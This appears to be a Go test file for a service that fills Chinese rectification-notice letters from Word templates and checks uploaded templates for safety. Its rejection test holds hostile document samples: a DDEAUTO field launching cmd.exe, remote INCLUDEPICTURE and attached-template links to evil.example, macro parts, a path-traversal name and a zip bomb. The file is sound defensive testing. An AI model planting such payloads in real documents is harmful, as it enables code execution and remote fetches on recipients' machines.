package letters_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/parkway-zone/parkway/domain/letter"
	"github.com/parkway-zone/parkway/letters"
)

// parts are the parts of a .docx, by their names.
func parts(t testing.TB, file []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	require.NoError(t, err)
	all := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(r)
		require.NoError(t, err)
		all[f.Name] = string(text)
	}
	return all
}

// packed makes a .docx of parts.
func packed(t testing.TB, all map[string]string) []byte {
	t.Helper()
	var file bytes.Buffer
	z := zip.NewWriter(&file)
	for name, text := range all {
		w, err := z.Create(name)
		require.NoError(t, err)
		_, err = w.Write([]byte(text))
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return file.Bytes()
}

const mainPart = "word/document.xml"

// opinion is the sort of letter that these tests write.
func opinion(t testing.TB) letter.Sort {
	t.Helper()
	s, ok := letters.Sort("rectification_opinion")
	require.True(t, ok)
	return s
}

// template is a template with a body of this XML behind the number and the QR code.
func template(t testing.TB, body string, change ...func(map[string]string)) []byte {
	t.Helper()
	shipped, err := letters.Shipped(opinion(t))
	require.NoError(t, err)
	all := parts(t, shipped)
	all[mainPart] = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` +
		`<w:p><w:r><w:t>{{文号}}{{二维码}}</w:t></w:r></w:p>` + body + `</w:body></w:document>`
	for _, c := range change {
		c(all)
	}
	return packed(t, all)
}

func p(runs ...string) string {
	text := ""
	for _, r := range runs {
		text += `<w:r><w:t xml:space="preserve">` + r + `</w:t></w:r>`
	}
	return "<w:p>" + text + "</w:p>"
}

// filled are the lines of a letter that was written from the template, its tables row by row.
func filled(t testing.TB, file []byte, values letter.Values) []string {
	t.Helper()
	require.NoError(t, letters.Check(file, opinion(t)))
	written, err := letters.Fill(file, values, "https://parkway.example.cn/v/ABC")
	require.NoError(t, err)
	page, err := letters.Read(written)
	require.NoError(t, err)
	return lines(page.Blocks)
}

func lines(blocks []letters.Block) []string {
	all := []string{}
	for _, b := range blocks {
		if b.Table != nil {
			for _, row := range b.Table.Rows {
				cells := []string{}
				for _, c := range row {
					cells = append(cells, strings.Join(lines(c.Blocks), "/"))
				}
				all = append(all, strings.Join(cells, "|"))
			}
			continue
		}
		text := ""
		for _, r := range b.Runs {
			text += r.Text
			if r.Break {
				text += "⏎"
			}
			if r.QR {
				text += "▦"
			}
		}
		all = append(all, text)
	}
	return all
}

func says(texts map[string]string, rows ...map[string]string) letter.Values {
	texts["文号"] = "测〔2026〕1号"
	return letter.Values{Texts: texts, Lists: map[string][]map[string]string{"问题": rows}}
}

// TestAFieldSplitOverRunsIsFilledIn: Word parts a name where its look or its spelling changes; wherever it does, the field is found.
func TestAFieldSplitOverRunsIsFilledIn(t *testing.T) {
	t.Parallel()
	whole := []rune("致{{受文单位}}：请于{{整改期限}}前")
	values := says(map[string]string{"受文单位": "三虎机械", "整改期限": "2026年11月13日"})
	for i := 0; i <= len(whole); i++ {
		for j := i; j <= len(whole); j += 3 {
			body := p(string(whole[:i]), string(whole[i:j]), string(whole[j:]))
			require.Equal(t, []string{"测〔2026〕1号▦", "致三虎机械：请于2026年11月13日前"}, filled(t, template(t, body), values), "parted at %d and %d", i, j)
		}
	}
	letterwise := []string{}
	for _, r := range whole {
		letterwise = append(letterwise, string(r))
	}
	require.Equal(t, "致三虎机械：请于2026年11月13日前", filled(t, template(t, p(letterwise...)), values)[1])
}

// TestRowsStandForTheElementsOfAList: as many rows as elements, an empty one where there is none, and what hangs on an empty field is left out.
func TestRowsStandForTheElementsOfAList(t *testing.T) {
	t.Parallel()
	table := `<w:tbl><w:tblGrid><w:gridCol w:w="1000"/><w:gridCol w:w="3000"/></w:tblGrid><w:tr><w:tc>` + p("序号") + `</w:tc><w:tc>` + p("问题") + `</w:tc></w:tr>` +
		`<w:tr><w:tc>` + p("{{问题.", "序号}}") + `</w:tc><w:tc>` + p("{{问题.描述}}（{{部位}}）") + `</w:tc></w:tr></w:tbl>`
	file := template(t, table+p("其中第{{重大项?}}项属于重大隐患。")+p("完。"))
	two := says(map[string]string{"部位": "2# 车间"}, map[string]string{"序号": "1", "描述": "照明不亮\n共 2 处"}, map[string]string{"序号": "2", "描述": "通道堵塞"})
	require.Equal(t, []string{"测〔2026〕1号▦", "序号|问题", "1|照明不亮⏎共 2 处（2# 车间）", "2|通道堵塞（2# 车间）", "完。"}, filled(t, file, two))
	none := says(map[string]string{"重大项": "1"})
	require.Equal(t, []string{"测〔2026〕1号▦", "序号|问题", "|（）", "其中第1项属于重大隐患。", "完。"}, filled(t, file, none))
}

// TestValuesAreWords: what somebody typed is printed as it is, and is never read as a field, as XML or as a picture.
func TestValuesAreWords(t *testing.T) {
	t.Parallel()
	file := template(t, p("{{隐患描述}}"))
	for _, nasty := range []string{`<w:p/>&amp;]]>"'`, "a\x00b\x1fc", "\uE123", "\U0001F525 火", strings.Repeat("长", 4000)} {
		got := filled(t, file, says(map[string]string{"隐患描述": nasty}))[1]
		want := strings.NewReplacer("\x00", "", "\x1f", "", "\uE123", "").Replace(nasty)
		require.Equal(t, want, got)
	}
	require.Equal(t, "｛｛文号｝｝", filled(t, file, says(map[string]string{"隐患描述": "{{文号}}"}))[1])
}

// TestTheSameIsTheSameBytes: a letter's hash says what was written, so nothing else may be in the file.
func TestTheSameIsTheSameBytes(t *testing.T) {
	t.Parallel()
	file, err := letters.Shipped(opinion(t))
	require.NoError(t, err)
	one, err := letters.Fill(file, letters.Sampled(opinion(t)), "https://parkway.example.cn/v/ABC")
	require.NoError(t, err)
	two, err := letters.Fill(file, letters.Sampled(opinion(t)), "https://parkway.example.cn/v/ABC")
	require.NoError(t, err)
	require.Equal(t, one, two)
}

// TestATemplateIsRefusedInWords: each with what is wrong with it.
func TestATemplateIsRefusedInWords(t *testing.T) {
	t.Parallel()
	put := func(name, text string) func(map[string]string) {
		return func(all map[string]string) { all[name] = text }
	}
	replace := func(name, from, to string) func(map[string]string) {
		return func(all map[string]string) { all[name] = strings.ReplaceAll(all[name], from, to) }
	}
	rels := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
	for name, c := range map[string]struct {
		file []byte
		says string
	}{
		"no document":     {[]byte("not a document"), "这不是 Word 文档"},
		"empty":           {nil, "这不是 Word 文档"},
		"a workbook":      {packed(t, map[string]string{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}), "没有正文"},
		"unknown field":   {template(t, p("{{法定代表}}")), "{{法定代表}} 不认识"},
		"unknown column":  {template(t, p("{{问题.颜色}}")), "{{问题.颜色}} 不认识"},
		"a list alone":    {template(t, p("{{问题}}")), "{{问题.序号}}"},
		"half a field":    {template(t, p("{{文号")), "没有配成对"},
		"full-width":      {template(t, p("｛｛文号｝｝")), "全角花括号"},
		"without number":  {template(t, "", replace(mainPart, "{{文号}}", "")), "没有 {{文号}}"},
		"without QR":      {template(t, "", replace(mainPart, "{{二维码}}", "")), "没有 {{二维码}}"},
		"broken XML":      {template(t, "<w:p>"), "不是正确的 XML"},
		"a document type": {template(t, "", replace(mainPart, "<w:document", `<!DOCTYPE x [<!ENTITY a "b">]><w:document`)), "DOCTYPE"},
		"macros":          {template(t, "", put("word/vbaProject.bin", "x")), "有宏"},
		"macro type":      {template(t, "", replace("[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml")), "有宏"},
		"external":        {template(t, "", put("word/_rels/settings.xml.rels", rels)), "文档以外"},
		"embedded":        {template(t, "", put("word/embeddings/sheet.xlsx", "x")), "嵌入"},
		"DDE":             {template(t, `<w:p><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r></w:p>`), "自动执行"},
		"remote picture":  {template(t, `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; "/></w:p>`), "自动执行"},
		"outside name":    {template(t, "", put("../evil", "x")), "名称不对"},
		"too many names":  {template(t, p(strings.Repeat("{{文号}}", 500))), "字段太多"},
		"too deep":        {template(t, strings.Repeat("<w:x>", 500)+strings.Repeat("</w:x>", 500)), "嵌套太深"},
		"too large":       {make([]byte, letters.FileLimit+1), "超过 2 MB"},
	} {
		begun := time.Now()
		err := letters.Check(c.file, opinion(t))
		require.ErrorAs(t, err, new(letters.Fault), name)
		var fault letters.Fault
		require.ErrorAs(t, err, &fault, name)
		require.Contains(t, fault.Chinese, c.says, name)
		require.NotEmpty(t, fault.English, name)
		require.Less(t, time.Since(begun), 5*time.Second, name)
	}
}

// TestAZipBombIsNotUnpacked: a small file that unpacks to gigabytes, by one part or by many, is refused once it is over the bound.
//
//nolint:paralleltest // it counts what the process allocates
func TestAZipBombIsNotUnpacked(t *testing.T) {
	for name, many := range map[string]int{"one part": 1, "many parts": 150} {
		var file bytes.Buffer
		z := zip.NewWriter(&file)
		zeros := make([]byte, 1<<20)
		for i := range many {
			w, err := z.Create(fmt.Sprintf("word/part%d.xml", i))
			require.NoError(t, err)
			for range 300 / many {
				_, err = w.Write(zeros)
				require.NoError(t, err)
			}
		}
		require.NoError(t, z.Close())
		require.Less(t, file.Len(), letters.FileLimit)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		err := letters.Check(file.Bytes(), opinion(t))
		runtime.ReadMemStats(&after)
		require.ErrorContains(t, err, "too large", name)
		require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(100<<20), name)
	}
}

// FuzzCheck: whatever is sent is refused or can be filled in, and read again.
func FuzzCheck(f *testing.F) {
	s, _ := letters.Sort("rectification_opinion")
	shipped, err := letters.Shipped(s)
	require.NoError(f, err)
	f.Add(shipped)
	f.Add([]byte("PK\x03\x04"))
	f.Fuzz(func(t *testing.T, file []byte) {
		if letters.Check(file, s) != nil {
			return
		}
		written, err := letters.Fill(file, letters.Sampled(s), "https://parkway.example.cn/v/ABC")
		require.NoError(t, err)
		_, err = letters.Read(written)
		require.NoError(t, err)
	})
}
